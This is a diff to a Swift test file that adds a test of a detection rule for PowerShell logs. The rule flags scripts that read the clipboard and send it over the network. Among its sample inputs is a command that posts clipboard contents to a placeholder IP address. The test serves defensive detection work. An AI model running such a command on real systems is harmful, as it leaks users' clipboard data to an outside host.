@@ -18,6 +18,28 @@ struct RuleBehaviourTests {
     try TestHunt([rule]).alerts(text).map { try $0.document["event"]?["id"]?.stringValue ?? "?" }.sorted()
   }
 
+  @Test("A rule over scripts of PowerShell finds names as the field's analyzer cuts them")
+  func scripts() throws {
+    let scripts = [
+      "$x = Get-Clipboard\\nInvoke-RestMethod -Uri http://203.0.113.9 -Body $x",
+      "[Windows.Clipboard]::GetText() | invoke-restmethod -method post",
+      // A longer name, its parts, another verb, and what is excepted.
+      "Get-ClipboardHistory; Invoke-RestMethod",
+      "Windows and Clipboard, Invoke-RestMethod",
+      "Get-Clipboard; Invoke-WebRequest",
+      "Get-Clipboard | Invoke-RestMethod # Approved-Helper",
+    ]
+    let events = scripts.enumerated().map { at, script in
+      #"{"@timestamp":"2026-01-01T00:00:0\#(at)Z","event":{"id":"\#(at + 1)"},"#
+        + #""powershell":{"file":{"script_block_text":"\#(script)"}}}"#
+    }.joined(separator: "\n")
+    let clipboard = """
+      powershell.file.script_block_text: (("Get-Clipboard" or "Windows.Clipboard") and "Invoke-RestMethod")
+        and not powershell.file.script_block_text: Approved-*
+      """
+    #expect(try Self.sources(.query(clipboard), events) == ["1", "2"])
+  }
+
   struct FilterCase: Sendable, CustomStringConvertible {
     var name: String
     var filter: String
